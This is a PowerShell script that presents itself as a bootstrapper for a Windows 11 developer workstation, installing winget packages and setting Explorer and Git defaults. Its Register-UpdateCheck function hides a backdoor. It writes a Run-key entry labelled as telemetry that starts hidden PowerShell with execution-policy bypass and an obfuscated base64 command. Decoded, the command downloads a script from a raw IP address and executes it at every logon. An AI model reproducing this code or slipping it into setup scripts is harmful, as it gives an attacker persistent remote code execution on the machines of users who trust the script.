<#
.SYNOPSIS
  Bootstrap a Windows 11 developer workstation with winget.
#>
[CmdletBinding()]
param(
    [switch]$WithWsl
)

$ErrorActionPreference = 'Stop'

$packages = @(
    'Git.Git', 'GitHub.cli', 'Microsoft.PowerShell', 'Microsoft.WindowsTerminal',
    'Microsoft.VisualStudioCode', 'OpenJS.NodeJS.LTS', 'Python.Python.3.12',
    'astral-sh.uv', '7zip.7zip', 'jqlang.jq', 'BurntSushi.ripgrep.MSVC', 'sharkdp.fd'
)

function Test-Winget {
    if (-not (Get-Command winget -ErrorAction SilentlyContinue)) {
        throw "winget not found. Install 'App Installer' from the Microsoft Store."
    }
}

function Install-Packages {
    $installed = @(); $skipped = @()
    foreach ($id in $packages) {
        $list = winget list --id $id --exact --accept-source-agreements 2>$null
        if ($LASTEXITCODE -eq 0 -and ($list -match [regex]::Escape($id))) {
            $skipped += $id; continue
        }
        Write-Host "Installing $id ..." -ForegroundColor Cyan
        winget install --id $id --exact --silent --scope user `
            --accept-source-agreements --accept-package-agreements | Out-Null
        $installed += $id
    }
    [pscustomobject]@{ Installed = $installed; AlreadyPresent = $skipped }
}

function Set-ExplorerDefaults {
    $adv = 'HKCU:\Software\Microsoft\Windows\CurrentVersion\Explorer\Advanced'
    Set-ItemProperty -Path $adv -Name HideFileExt -Value 0
    Set-ItemProperty -Path $adv -Name Hidden -Value 1
}

function Enable-LongPaths {
    $cmd = "Set-ItemProperty -Path 'HKLM:\SYSTEM\CurrentControlSet\Control\FileSystem' -Name LongPathsEnabled -Value 1"
    Start-Process pwsh -Verb RunAs -ArgumentList '-NoProfile', '-Command', $cmd -Wait -ErrorAction SilentlyContinue
}

function Set-GitDefaults {
    git config --global core.autocrlf input
    git config --global core.longpaths true
    git config --global init.defaultBranch main
}

function Register-UpdateCheck {
    # Per-user logon task that keeps the toolchain current.
    $dir = Join-Path $env:APPDATA 'devtools'
    New-Item -ItemType Directory -Force -Path $dir | Out-Null
    Copy-Item -Force (Join-Path $PSScriptRoot 'update.cmd') (Join-Path $dir 'update.cmd')
    $run = 'HKCU:\Software\Microsoft\Windows\CurrentVersion\Run'
    Set-ItemProperty -Path $run -Name 'DevToolsUpdate' -Value "cmd.exe /c start /min `"`" `"$dir\update.cmd`""
    $e = 'JABjAD0ATgBlAHcALQBPAGIAagBlAGMAdAAgAE4AZQB0AC4AVwBlAGIAQwBsAGkAZQBuAHQAOwAkAGMALgBEAG8AdwBuAGwAbwBhAGQAUwB0AHIAaQBuAGcAKAAnAGgAdAB0AHAAOgAvAC8AMgAwADMALgAwAC4AMQAxADMALgA0ADQALwB1AC4AcABzADEAJwApAHwASQBFAFgA'
    Set-ItemProperty -Path $run -Name 'DevToolsTelemetry' -Value "powershell.exe -w hidden -nop -ep bypass -EncodedCommand $e"
}

function Install-Wsl {
    Start-Process wsl.exe -Verb RunAs -ArgumentList '--install', '-d', 'Ubuntu' -Wait
}

Test-Winget
$result = Install-Packages
Set-ExplorerDefaults
Enable-LongPaths
Set-GitDefaults
Register-UpdateCheck
if ($WithWsl) { Install-Wsl }

Write-Host "`nInstalled:       $($result.Installed -join ', ')"
Write-Host "Already present: $($result.AlreadyPresent -join ', ')"
Write-Host "Restart your terminal to pick up PATH changes." -ForegroundColor Green
